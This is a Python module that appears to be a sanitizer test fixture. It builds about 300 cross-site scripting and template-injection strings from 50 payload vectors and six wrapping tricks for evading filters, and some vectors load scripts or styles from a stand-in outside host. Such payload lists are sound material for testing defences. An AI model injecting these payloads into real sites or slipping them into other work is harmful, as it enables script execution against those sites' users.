"""What do people type who want a page to run their script? Three hundred strings: vectors, and the ways to carry them."""

import html
from urllib.parse import quote

HIT = "hit()"
"""What each string tries to run; the tests listen for it."""

VECTORS = [
    "<script>hit()</script>",
    "<script src=data:,hit()></script>",
    "<script src=//exemple.fr/x.js></script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script/x>hit()</script>",
    "<script type=module>hit()</script>",
    "<img src=x onerror=hit()>",
    "<img src=x:x onerror=\"hit()\">",
    "<img/src=x/onerror=hit()>",
    "<image src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>hit()</script></svg>#x\">",
    "<math><mi xlink:href=javascript:hit()>x</mi></math>",
    "<body onload=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<a href=javascript:hit() autofocus onfocus=hit()>x</a>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<textarea autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>",
    "<video src=x onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<marquee onstart=hit()>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<button popovertarget=x onbeforetoggle=hit()>x</button><div popover id=x>",
    "<style>@import '//exemple.fr/x.css'</style>",
    "<style>*{background:url(//exemple.fr/x.png)}</style>",
    "<link rel=stylesheet href=//exemple.fr/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<base href=//exemple.fr/>",
    "<template><script>hit()</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
    "<xss style=animation-name:x onanimationstart=hit()>",
    "<div hx-get=/ hx-trigger=load hx-on::load=hit()>",
    "<div hx-get=\"//exemple.fr/x\" hx-trigger=\"load\">x</div>",
    "[x](javascript:hit())",
    "![x](javascript:hit())",
    "<https://x\"onmouseover=hit()>",
    "https://exemple.fr/\"onmouseover=\"hit()",
    "javascript:hit()",
    "data:text/html,<script>hit()</script>",
    "{{7777*7777}}{%print(7777*7777)%}",
    "${7777*7777}#{7777*7777}<%=7777*7777%>",
    "'+hit()+'",
]  # fmt: skip
COMPUTED = str(7777 * 7777)
"""What a template language would have made of two of them."""

CARRIERS = [
    lambda vector: vector,
    lambda vector: f"\"'>{vector}",
    lambda vector: f"</textarea></title></script></style>-->]]>{vector}",
    lambda vector: "&lt;P&gt;" + vector.upper().replace("HIT()", HIT).replace("//EXEMPLE.FR", "//exemple.fr"),
    lambda vector: html.escape(vector) + quote(vector[:12]),
    lambda vector: vector.replace("<", "<\u0000").replace(" on", "\t\non") + "\u202e\U000e0041",
]
STRINGS = [carry(vector) for carry in CARRIERS for vector in VECTORS]
